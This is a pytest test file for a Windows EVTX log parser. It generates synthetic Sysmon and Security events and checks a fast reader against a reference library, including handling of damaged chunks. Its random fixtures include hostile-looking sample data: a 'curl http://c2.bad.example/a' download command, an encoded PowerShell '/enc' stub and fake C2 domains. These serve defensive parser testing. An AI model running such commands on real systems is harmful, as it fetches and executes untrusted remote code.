"""EVTX files as Windows writes them, whose records are instances of templates: read without the library, with the same result as with it."""

from __future__ import annotations

import io
import json
import random
import struct
from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bench.evtx_builder import (
    ANSI,
    BOOL,
    FILETIME,
    FIRST_TIME,
    GUID,
    HEX64,
    SID,
    STRING,
    UINT16,
    UINT32,
    Record,
    full_chunks,
    resealed,
    strings,
    template_chunk,
    text,
)
from bench.reading_evtx import EVENT_LOGS, records_of
from lamsach.logs.base import FileContext
from lamsach.logs.binary.evtx import events as evtx_events
from lamsach.logs.binary.evtx import library as evtx_library
from lamsach.logs.binary.evtx.chunks import CHUNK_BYTES, RECORDS_START, ChunkReader
from lamsach.logs.binary.evtx.elements import Names, UnusualError
from lamsach.logs.binary.evtx.events import EventMaker
from lamsach.logs.binary.evtx.library import library_texts, some_library_texts
from lamsach.logs.binary.evtx.plans import READS, Head, plan_of
from lamsach.logs.binary.evtx.rows import LEFT
from lamsach.logs.binary.evtx.templates import UNUSUAL, Template, Templates
from lamsach.logs.binary.evtx.values import value
from lamsach.logs.formats.windows.evtx import Evtx
from lamsach.logs.mappings.windows.record import WindowsRecord
from lamsach.model import Event, Refusal

from .evtx_builder import file
from .whole_logs import at_once, by_line

SAMPLES = Path(__file__).parents[2] / ".." / "shared" / "samples" / "evtx" / "files"
SECURITY = "Microsoft-Windows-Security-Auditing"


def items_of(data: bytes) -> list[Event | Refusal]:
    return list(Evtx(FileContext("a.evtx")).read(io.BytesIO(data)))


def by_library(data: bytes) -> list[Event | Refusal]:
    """What the library alone gives."""
    reader = Evtx(FileContext("a.evtx"))
    pieces = (data[at : at + CHUNK_BYTES] for at in range(4096, len(data), CHUNK_BYTES))
    texts = [one for chunk in pieces if any(chunk) for one in library_texts(chunk)]
    return [reader.item(one, number) for number, one in enumerate(texts, 1)]


def batch_of(*chunks: bytes) -> memoryview:
    """The chunks as one batch."""
    return next(ChunkReader(io.BytesIO(b"".join(chunks)).readinto).batches())


def left_of(chunk: bytes) -> list[int]:
    """Which records of a chunk are left to the library."""
    records, _ = EventMaker(Evtx(FileContext("a.evtx")).event).read(batch_of(chunk))
    return [at for at, code in enumerate(records.codes.tolist()) if code == LEFT]


def connection(initiated: bool, source: str = "192.168.56.1", port: int = 52543, **more: str) -> Record:
    ends = strings(SourceIp=source, DestinationIp="192.168.56.101", DestinationPort="3389", **more)
    flag = ("Initiated", BOOL, initiated.to_bytes(4, "little"))
    return Record(3, [flag, ("SourcePort", UINT16, port.to_bytes(2, "little")), *ends])


def filtered(number: int, port: str, source: str = "10.0.2.17") -> Record:
    """An event of the filtering platform, whose ports are text."""
    data = strings(Application="\\device\\a.exe", Direction="%%14593", SourceAddress=source, SourcePort=port,
                   DestAddress="203.0.113.9", DestPort="443", Protocol="6")  # fmt: skip
    return Record(number, data, SECURITY, "Security")


def some_connection(chance: random.Random, user: str) -> Record:
    """A connection or packet whose ends may be stated in all ways, also badly."""
    addresses = [
        "10.1.1.5",
        "0.0.0.0",
        "::",
        "192.0.2.7",
        "2001:db8::7",
        "",
        "-",
        "\ud800",
        "::ffff:192.0.2.8",
    ]
    source, far = chance.choice(addresses), chance.choice(addresses)
    if chance.random() < 0.5:
        ends = strings(
            SourceAddress=source,
            DestAddress=far,
            SourcePort="5",
            DestPort="443",
            Direction=chance.choice(["%%14592", "%%14593"]),
        )
        return Record(chance.randrange(5150, 5160), ends, SECURITY, "Security")
    name = chance.choice(["", "-", "www.bad.example", "A.B"])
    flag = ("Initiated", BOOL, chance.randrange(2).to_bytes(4, "little"))
    ends = strings(SourceIp=source, DestinationIp=far, DestinationHostname=name, User=user)
    ports = strings(SourcePort=chance.choice(["5", "50000"]), DestinationPort="3389")
    more = chance.choice([{}, {"Direction": chance.choice(["in", "out"])}, {"ServerAddress": "192.0.2.1:5"}])
    other = chance.random() < 0.3
    return Record(
        3, [flag, *ends, *ports, *strings(**more)], *(["Other", "Other/Operational"] if other else [])
    )


def some_digests(chance: random.Random) -> str:
    """Digests as Sysmon writes them, and what may be found in their place."""
    md5, sha1, sha256 = (chance.randbytes(size).hex() for size in (16, 20, 32))
    return chance.choice(
        [
            f"SHA1={sha1.upper()},MD5={md5.upper()},SHA256={sha256.upper()},IMPHASH={md5.upper()}",
            f"SHA1={sha1.upper()},MD5={md5.upper()},SHA256={sha256.upper()},IMPHASH={'0' * 32}",
            f"MD5={md5},SHA256={sha256}",
            f"MD5={'0' * 32},SHA256={sha256}",
            f"MD5={md5[:-1]}g,SHA256={sha256}",
            f"MD5={md5}ab,SHA256={sha256}",
            f"MD5={md5},MD5={md5[::-1]}",
            f"MD5={md5},SHA256={sha256[:-1]}ể",
            f"MD5={md5},SHA256=\0{sha256[:-1]}",
            f"SHA1={sha1},XXX={md5},SHA256={sha256}a",
            *(md5, "", "-"),
        ]
    )


CAME_FROM = ["192.0.2.7", "198.51.100.9", "-", "10.1.1.9", "10.1.1.10", "172.31.0.1", "172.32.0.1", "127.0.0.1", "0.0.0.0", "224.0.0.5",
             "10.1.1.255", "010.1.1.9", "::ffff:10.1.1.9", "fe80::1", "", "10.1.1.9\0", "ể", "\ud800", "192.0.2.7:5"]  # fmt: skip
COMMANDS = ["cmd /c a.exe -q", "a.exe.", "x.exe-y.example", "a.dll/b.bad.example", "-e", "/enc SQBFAFgAIABoAHQAdABwADoALwAvAGEA",
            "A.EXE", "http://srv", "ping 10.1.2.3", "a.ps1\u2028-e", "run -x 5"]  # fmt: skip


def some_record(chance: random.Random) -> Record:
    """An event of one of the kinds that logs are full of."""
    user = chance.choice(["UNIT\\an", "NT AUTHORITY\\SYSTEM", "", "PC-17$", "Đặng Ân", 'a"b'])
    process = ("ProcessGuid", GUID, chance.randbytes(16)), ("ProcessId", UINT32, chance.randbytes(4))
    written = ("UtcTime", *text("2026-06-10 16:00:00.123"))
    digests = some_digests(chance)
    ports = chance.choice(
        ["0", "443", str(chance.randrange(65536)), "", "no", "65536", "00443", "000443", " 5", "5\0", "٣"]
    )
    asked = chance.choice(
        [
            "bot-c2.xyz",
            "c2.bad.example",
            "n/a",
            "x." + "y" * 64 + ".example",
            "z" * 63 + ".example",
            "",
            "-",
            "a b",
            "WWW.Unit.Example.",
            "\ud800",
            ".",
            "x" * 300,
        ]
    )
    answered = chance.choice(
        [
            "::ffff:192.0.2.1;",
            "::ffff:192.0.2.01;",
            "::ffff:192.0.2.1",
            "::ffff:192.0.2.2;::ffff:192.0.2.2;",
            "type:  5 cdn.bad.example;192.0.2.9;192.0.2.9;",
            "",
            "-",
            "\ud800",
        ]
    )
    ran = chance.choice(
        [
            *COMMANDS,
            "curl http://c2.bad.example/a",
            "b",
            "ping 192.0.2.4",
            "",
            "-enc",
            "\ud800",
            "a.exe",
            "SQBFAFgAIABoAHQAdABwADoALwAvAGEA",
        ]
    )
    kinds = [
        lambda: some_connection(chance, user),
        lambda: Record(1, strings(CommandLine=ran, ParentCommandLine=chance.choice(["", "SQBFAFgAIABoAHQAdABwADoALwAvAGEA", "c.example.net"]), User=user)),
        lambda: Record(22, strings(QueryName=asked, QueryResults=answered, User=user)),
        lambda: Record(22, strings(QueryName=asked, User=user, **chance.choice([{"DnsServerIpAddress": "192.0.2.53"}, {"Query": "other.example"}, {}]))),
        lambda: Record(3008, strings(QueryName=asked, QueryResults=answered), "Microsoft-Windows-DNS-Client", "DNS-Client"),
        lambda: connection(chance.random() < 0.5, chance.choice(["10.1.1.5", "::1", "fe80::1"]), chance.randrange(65536), User=user),
        lambda: filtered(chance.choice([5156, 5157, 5158]), ports),
        lambda: Record(7, [written, *process, *strings(ImageLoaded="C:\\a.dll", Hashes=digests, User=user)]),
        lambda: Record(1, [written, *process, *strings(CommandLine="curl http://c2.bad.example/a", Hashes=digests, User=user)]),
        lambda: Record(22, [written, *process, *strings(QueryName="bot-c2.xyz", QueryResults="::ffff:192.0.2.1;", User=user)]),
        lambda: Record(13, [written, *process, *strings(TargetObject="HKLM\\a", Details="http://203.0.113.7/b")]),
        lambda: Record(4624, [("SubjectUserSid", SID, bytes.fromhex("010100000000000512000000")), ("LogonId", HEX64, chance.randbytes(8)),
                              *strings(TargetUserName=user, IpAddress=chance.choice(CAME_FROM), IpPort=ports,
                                       WorkstationName="PC-17")], SECURITY, "Security"),
        lambda: Record(900, [written, ("At", FILETIME, struct.pack("<Q", FIRST_TIME)), *strings(Text="see http://x.bad.example/")], "Other", "Application"),
        lambda: Record(901, strings(a="1", b="http://x.bad.example/"), "Other", "Application", unnamed=True),
        lambda: Record(902, strings(url="http://x.bad.example/"), "Other", "Other/Operational", inner="UserData"),
        lambda: Record(903, strings(url="http://x.bad.example/", Ip="192.0.2.1"), "Other", "Other/Operational", optional=True),
    ]  # fmt: skip
    return replace(
        chance.choice(kinds)(),
        computer=chance.choice(["PC-AN", "PC-MINH", "PC-Ân", 'PC"1']),
        literal=chance.random() < 0.5,
        time=FIRST_TIME + chance.randrange(10**10),
    )


def some_log(seed: int, count: int = 3) -> bytes:
    chance = random.Random(seed)
    return file(*(template_chunk([some_record(chance) for _ in range(40)]) for _ in range(count)))


@pytest.mark.parametrize(
    "initiated, inbound, device", [(True, False, "192.168.56.1"), (False, True, "192.168.56.101")]
)
def test_who_opened_a_connection_is_a_truth_value(initiated: bool, inbound: bool, device: str) -> None:
    """Sysmon's schema: `Initiated` is a Boolean, which the library gives as one; without it the far machine would be blamed."""
    data = file(template_chunk([connection(initiated)]))
    for (event,) in (items_of(data), by_library(data)):
        assert isinstance(event, Event)
        assert (event.inbound, event.device_ip) == (inbound, device)


def test_usual_records_need_no_library(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(evtx_library, "_all_of", None)
    data = file(template_chunk([connection(True, port=1), connection(True, port=2), filtered(5156, "3")]))
    events = items_of(data)
    assert [event.source_port for event in events if isinstance(event, Event)] == [1, 2, 3]
    assert [event.line for event in events if isinstance(event, Event)] == [1, 2, 3]


@pytest.mark.parametrize("seed", range(8))
def test_the_same_as_by_the_library(seed: int, tmp_path: Path) -> None:
    path = tmp_path / "a.evtx"
    path.write_bytes(some_log(seed))
    assert items_of(path.read_bytes()) == by_library(path.read_bytes())
    assert at_once(path) == by_line(path)


def test_every_time_is_read_to_the_microsecond() -> None:
    (event,) = items_of(file(template_chunk([Record(5, strings(User="an"), time=FIRST_TIME + 19)])))
    assert isinstance(event, Event)
    assert str(event.time) == "2026-06-10 16:00:00.000001+00:00"


def test_what_differs_in_time_and_carried_ports_alone_is_made_once() -> None:
    maker = EventMaker(Evtx(FileContext("a.evtx")).event)
    same = [replace(connection(True, port=port), time=FIRST_TIME + port) for port in range(50)]
    maker.read(batch_of(template_chunk([*same, *(filtered(5156, str(port)) for port in range(50))])))
    assert len(maker.events) == 2
    maker.read(batch_of(template_chunk([connection(False, port=port) for port in range(50)])))
    assert len(maker.events) == 52


ONE_EVENT = {
    "whom a machine reached": lambda at: connection(True, User="UNIT\\an", DestinationHostname=f"h{at}.example"),
    "a packet's destination": lambda at: Record(
        5156, strings(SourceAddress="10.1.1.5", SourcePort="5", DestAddress=f"192.0.2.{at}", DestPort="443"), SECURITY, "Security"
    ),
    "a question and its answer": lambda at: Record(22, strings(QueryName=f"h{at}.example", QueryResults=f"192.0.2.{at};")),
    "a command that mentions nothing": lambda at: Record(1, strings(CommandLine=f"run.exe /n {at}", ParentCommandLine=f"{at}")),
    "a log-on from a machine": lambda at: Record(4624, strings(TargetUserName="an", IpAddress=f"10.1.1.{at}", IpPort="5"), SECURITY, "Security"),
    "a log-on from outside": lambda at: Record(4625, strings(TargetUserName="an", IpAddress=f"192.0.2.{at}"), SECURITY, "Security"),
    "the port of a log-on": lambda at: Record(4624, strings(TargetUserName="an", IpAddress="10.1.1.9", IpPort=str(at)), SECURITY, "Security"),
}  # fmt: skip


@pytest.mark.parametrize("make", ONE_EVENT.values(), ids=ONE_EVENT)
def test_what_stands_alone_makes_no_event_of_its_own(make: Callable[[int], Record]) -> None:
    records = [make(at) for at in range(1, 41)]
    maker = EventMaker(Evtx(FileContext("a.evtx")).event)
    maker.read(batch_of(template_chunk(records)))
    assert len(maker.events) == 1
    assert items_of(file(template_chunk(records))) == by_library(file(template_chunk(records)))


def test_half_a_character_is_left_to_the_library() -> None:
    """One such value among others must not shift them."""
    data = [strings(QueryName=f"h{at}.example", QueryResults="::ffff:192.0.2.1;") for at in range(5)]
    data[2][0] = ("QueryName", STRING, b"h\0.\0e\0x\0a")
    chunk = template_chunk([Record(22, one) for one in data])
    assert left_of(chunk) == [2]
    assert items_of(file(chunk)) == by_library(file(chunk))


@pytest.mark.parametrize("name", EVENT_LOGS)
def test_the_logs_that_are_measured_are_read_without_the_library(name: str) -> None:
    chunk = next(full_chunks(records_of(name)))
    assert len(library_texts(chunk)) > 40
    assert left_of(chunk) == []
    assert items_of(file(chunk)) == by_library(file(chunk))


def test_two_data_of_one_value_are_not_taken_for_one() -> None:
    """A template may put the same value in two places: then what is carried over tells more than a port."""
    flag = ("Initiated", BOOL, b"\1\0\0\0")
    ends = [strings(SourceIp="10.1.1.5", DestinationIp=f"10.1.1.{at}") for at in range(1, 6)]
    chunk = bytearray(template_chunk([Record(3, [flag, *both]) for both in ends]))
    place = chunk.index(struct.pack("<BHB", 0x0D, 1, STRING))
    chunk[place + 1 : place + 3] = struct.pack("<H", 2)
    data = file(resealed(bytes(chunk)))
    assert items_of(data) == by_library(data)


def test_digests_are_carried_over_too(tmp_path: Path) -> None:
    chance = random.Random(4)
    told = [(chance.randbytes(32).hex(), chance.randbytes(16).hex()) for _ in range(60)]
    texts = [f"SHA256={long.upper()},MD5={short.upper()},IMPHASH={long[:32].upper()}" for long, short in told]
    records = [Record(7, strings(Hashes=text, User="UNIT\\an")) for text in texts]
    maker = EventMaker(Evtx(FileContext("a.evtx")).event)
    found, _ = maker.read(batch_of(template_chunk(records)))
    assert len(maker.events) == 1
    assert [event.hashes for event in maker.stamped(found, 1) if event] == told
    path = tmp_path / "a.evtx"
    path.write_bytes(file(template_chunk(records), template_chunk([Record(7, strings(User="UNIT\\an"))])))
    table, _, _ = at_once(path)
    assert table.column("sha256").to_pylist() == [*(long for long, _ in told), None]
    assert table.column("md5").to_pylist() == [*(short for _, short in told), None]


@pytest.mark.parametrize("seed", range(6))
def test_digests_of_all_kinds(seed: int, tmp_path: Path) -> None:
    chance = random.Random(seed)
    records = [Record(7, strings(Hashes=some_digests(chance), User="UNIT\\an")) for _ in range(70)]
    path = tmp_path / "a.evtx"
    path.write_bytes(file(template_chunk(records)))
    assert items_of(path.read_bytes()) == by_library(path.read_bytes())
    assert at_once(path) == by_line(path)


UNUSUAL_RECORDS = {
    "data without names": Record(900, strings(a="1"), unnamed=True),
    "data in another element": Record(900, strings(a="1"), inner="UserData"),
    "no data": Record(900, []),
    "one name twice": Record(900, [("A", *text("1")), ("A", *text("2"))]),
    "a kind that Windows has not": Record(900, [("A", ANSI, b"text")], "Other", "Application"),
    "a name with a quotation mark": Record(900, strings(A="1"), computer='PC"', literal=False),
    "a name with a backslash": Record(900, strings(A="1"), provider="A\\B"),
    "half a surrogate pair": Record(900, [("A", STRING, b"\x00\xd8")], "Other", "Application"),
    "an endless name": Record(900, strings(A="1"), channel="a" * 2000),
    "a truth value of three": Record(3, [("Initiated", BOOL, b"\3\0\0\0")]),
    "more values than usual": Record(900, strings(**{f"a{at}": "1" for at in range(70)})),
}


@pytest.mark.parametrize("record", UNUSUAL_RECORDS.values(), ids=UNUSUAL_RECORDS)
def test_what_is_unusual_is_left_to_the_library(record: Record) -> None:
    usual = connection(True)
    chunk = template_chunk([usual, record, usual])
    assert left_of(chunk) == [1]
    assert items_of(file(chunk)) == by_library(file(chunk))


@pytest.mark.parametrize("number", [0, 2])
def test_a_time_far_away_is_left_to_the_library(number: int) -> None:
    records = [connection(True)] * 3
    records[number] = replace(records[number], time=0)
    chunk = template_chunk(records)
    assert left_of(chunk) == [number]
    assert items_of(file(chunk)) == by_library(file(chunk))


@pytest.mark.parametrize("count", [1, 5, 6, 7, 30])
def test_single_records_by_the_library(count: int) -> None:
    """A few are read alone, many with all that stand between them."""
    chunk = template_chunk([Record(900, strings(a=str(at)), unnamed=True) for at in range(40)])
    places = [RECORDS_START]
    while len(places) <= 40:
        places.append(places[-1] + int(struct.unpack_from("<I", chunk, places[-1] + 4)[0]))
    which = sorted(random.Random(count).sample(range(40), count))
    assert some_library_texts(chunk, places, which) == [library_texts(chunk)[at] for at in which]


VALUES = {
    STRING: ["", "a", "a\0", "\0", "a\0b", " a ", "\n", "\x01", "é😀", "\ufeffa", "\uffff"],
    3: [b"\xff"], 4: [b"\xff"], 5: [b"\xff\xff"], 6: [b"\xff\xfe"], 7: [b"\xff" * 4], 8: [b"\xff" * 4],
    9: [b"\xff" * 8], 10: [b"\xff" * 8],
    14: [b"", b"\x01\xab"], 15: [bytes(range(16)), bytes(16)],
    17: [struct.pack("<Q", FIRST_TIME + 19), struct.pack("<Q", 116_444_736_000_000_000)],
    19: [bytes.fromhex("010100000000000512000000"), bytes.fromhex("0102000000000005150000000102030f")],
    20: [bytes(4), b"\x0a\0\0\0", b"\xff" * 4], 21: [bytes(8), b"\xff" * 8],
    0: [b""],
}  # fmt: skip


def test_values_are_spelled_as_by_the_library() -> None:
    cases = [
        (kind, data.encode("utf-16-le") if isinstance(data, str) else data)
        for kind, values in VALUES.items()
        for data in values
    ]
    chunk = template_chunk([Record(900, [("A", kind, data), *strings(B="")]) for kind, data in cases])
    for (kind, data), found in zip(cases, library_texts(chunk), strict=True):
        spelled = json.loads(found or "")["Event"]["EventData"]["A"]
        assert value(kind, data) == str(spelled), (kind, data)


@pytest.mark.parametrize(
    "kind, data", [(6, b"\1"), (13, b"\2\0\0\0"), (15, b"1"), (19, bytes(8)), (19, b"\1\2" + bytes(10)), (17, b"\xff" * 8), (2, b"a"), (129, b"a\0")]
)  # fmt: skip
def test_other_values_are_not_read(kind: int, data: bytes) -> None:
    with pytest.raises(UnusualError):
        value(kind, data)


def names_at(chunk: bytes, name: str) -> Iterator[int]:
    """Where a name stands."""
    wanted, at = name.encode("utf-16-le"), -1
    while (at := chunk.find(wanted, at + 1)) >= 0:
        yield at


def test_a_definition_is_told_by_all_that_it_holds_not_by_its_number() -> None:
    """One GUID, two layouts: a datum that is called otherwise, and an element's name that stands elsewhere in the chunk."""
    chunk = template_chunk([connection(True, User="UNIT\\an")])
    assert items_of(file(chunk)) == by_library(file(chunk))
    renamed = bytearray(chunk)
    for old, new in (("User", "Usex"), ("Data", "Daxa"), ("SourceIp", "DestinIp"), ("Channel", "Chammel")):
        for at in names_at(chunk, old):
            renamed = bytearray(chunk)
            renamed[at : at + 2 * len(new)] = new.encode("utf-16-le")
            other = file(resealed(bytes(renamed)))
            assert items_of(other) == by_library(other), old


def test_a_definition_of_the_same_bytes_means_the_same_only_with_the_same_names() -> None:
    """The second definition names places in the first: another name stands there in the second chunk."""
    chunk = template_chunk([connection(True), Record(5, strings(User="UNIT\\an", Image="C:\\a.exe"))])
    assert left_of(chunk) == left_of(chunk) == []
    renamed = bytearray(chunk)
    at = next(names_at(chunk, "Data"))
    renamed[at : at + 8] = "Daxa".encode("utf-16-le")
    other = resealed(bytes(renamed))
    assert left_of(other) == [0, 1]
    assert items_of(file(chunk, other)) == by_library(file(chunk, other))


def test_a_definition_of_the_same_bytes_means_nothing_at_another_place() -> None:
    """The names in it would stand where it was before."""
    chunk = bytearray(template_chunk([connection(True)]))
    place = struct.unpack_from("<I", chunk, RECORDS_START + 34)[0]
    moved = CHUNK_BYTES // 2
    (size,) = struct.unpack_from("<I", chunk, place + 20)
    chunk[moved : moved + 24 + size] = chunk[place : place + 24 + size]
    templates, view = Templates(), memoryview(chunk)
    for _ in range(2):
        assert templates.at(view, place, Names(view)).system is not None
    assert templates.at(view, moved, Names(view)) is UNUSUAL


def test_few_definitions_are_kept() -> None:
    """However little may be kept, and whatever else was read in between, each definition means the same."""
    kept, scarce = Templates(), Templates(1)
    for at in range(40):
        chunk = template_chunk(
            [Record(5, strings(**{f"A{at % 20}": "1", "User": "an"}), computer=f"PC-{at}")]
        )
        place = struct.unpack_from("<I", chunk, RECORDS_START + 34)[0]
        view = memoryview(chunk)
        first, second = (templates.at(view, place, Names(view)) for templates in (kept, scarce))
        assert (first.kinds, first.system) == (second.kinds, second.system)
        assert first.system is not None
        assert first.system.computer == f"PC-{at}"
    assert len(scarce._layouts) == 1
    assert max(map(len, kept._layouts.values())) <= 16


@pytest.mark.parametrize("place", [0, -5, CHUNK_BYTES - 3, CHUNK_BYTES, 1 << 31])
def test_a_definition_elsewhere_is_none(place: int) -> None:
    chunk = memoryview(template_chunk([connection(True)]))
    assert Templates().at(chunk, place, Names(chunk)) is UNUSUAL


def test_records_without_bodies_end() -> None:
    """As many records as a chunk can hold, of heads alone."""
    count = (CHUNK_BYTES - RECORDS_START) // 32
    chunk = bytearray(template_chunk([connection(True)]))
    for at in range(count):
        head = struct.pack("<4sIQQ", b"\x2a\x2a\0\0", 32, at, FIRST_TIME)
        chunk[RECORDS_START + 32 * at : RECORDS_START + 32 * at + 32] = (
            head + bytes(4) + struct.pack("<I", 32)
        )
    struct.pack_into("<II", chunk, 44, RECORDS_START, RECORDS_START + 32 * count)
    data = file(resealed(bytes(chunk)))
    assert items_of(data) == by_library(data)


@pytest.mark.parametrize("seed", range(20))
def test_damage_without_right_checksums_is_read_as_before(seed: int) -> None:
    chance = random.Random(seed)
    data = bytearray(some_log(seed, 2))
    for _ in range(chance.choice((1, 5, 60))):
        data[chance.randrange(4096, 4096 + CHUNK_BYTES)] = chance.randrange(256)
    assert items_of(bytes(data)) == by_library(bytes(data))


@settings(max_examples=60, deadline=None)
@given(
    st.integers(0, 3),
    st.lists(st.tuples(st.integers(512, 12000), st.binary(min_size=1, max_size=4)), min_size=1, max_size=8),
)
def test_damage_under_right_checksums_gives_no_less(seed: int, changes: Sequence[tuple[int, bytes]]) -> None:
    """Whoever changes a log may compute the checksums too."""
    data = bytearray(template_chunk([some_record(random.Random(seed + at)) for at in range(12)]))
    for place, new in changes:
        data[place : place + len(new)] = new
    damaged = file(resealed(bytes(data)))
    found, before = items_of(damaged), by_library(damaged)
    assert len(found) >= len(before)
    assert sum(isinstance(item, Event) for item in found) >= sum(isinstance(item, Event) for item in before)


class _Asked(dict[str, str]):
    """Data that note what they are asked for."""

    def __init__(self, data: dict[str, str]) -> None:
        super().__init__(data)
        self.asked: set[str] = set()

    def __getitem__(self, name: str) -> str:
        self.asked.add(name)
        return super().__getitem__(name)

    def get(self, name: str, default: Any = None) -> Any:
        self.asked.add(name)
        return super().get(name, default)


@settings(max_examples=40, deadline=None)
@given(st.data())
def test_readers_ask_for_no_more_than_is_said(data: st.DataObject) -> None:
    """Else two events that differ in what was forgotten would be taken for one."""
    for reader, names in READS.items():
        values = st.sampled_from(
            [
                "",
                "-",
                "192.0.2.1",
                "10.0.0.1:5",
                "443",
                "true",
                "false",
                "an",
                "PC-1$",
                "http://a.example/",
                "0x12",
            ]
        )
        told = _Asked(data.draw(st.dictionaries(st.sampled_from(sorted(names)), values, max_size=8)))
        number = data.draw(st.sampled_from([1, 3, 22, 3008, 4624, 4768, 4776, 5140, 5156, 5157, 6272]))
        reader(WindowsRecord(number, "P", "C", "PC", None, told))
        assert told.asked <= names


@pytest.mark.parametrize(
    "head, names, key",
    [
        (Head(3, "Microsoft-Windows-Sysmon", "S", None), ("UtcTime", "User", "Image", "Protocol"), (1,)),
        (
            Head(11, "Microsoft-Windows-Sysmon", "S", None),
            ("UtcTime", "Image", "TargetFilename", "User"),
            (3,),
        ),
        (Head(4624, SECURITY, "Security", None), ("SubjectUserName", "LogonGuid", "IpAddress"), (0, 2)),
        (Head(9, "Other", "Application", None), ("A", "B"), (0, 1)),
        (Head(9, "Other", "Application", None), ("A", "Url"), (0, 1)),
    ],
)
def test_only_what_is_asked_for_tells_events_apart(
    head: Head, names: tuple[str, ...], key: tuple[int, ...]
) -> None:
    template = Template((STRING,) * len(names), data=tuple((name, at) for at, name in enumerate(names)))
    found = plan_of(head, template).key
    assert found is not None
    assert tuple(index for index in found if index >= 0) == key


def test_what_was_made_is_forgotten_in_time(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(evtx_events, "_KEPT", 5)
    path = tmp_path / "a.evtx"
    path.write_bytes(some_log(3, 4))
    assert items_of(path.read_bytes()) == by_library(path.read_bytes())
    assert at_once(path) == by_line(path)


@pytest.mark.skipif(not SAMPLES.is_dir(), reason="the samples are not there")
def test_samples() -> None:
    for path in sorted(SAMPLES.glob("*.evtx")):
        assert items_of(path.read_bytes()) == by_library(path.read_bytes()), path.name
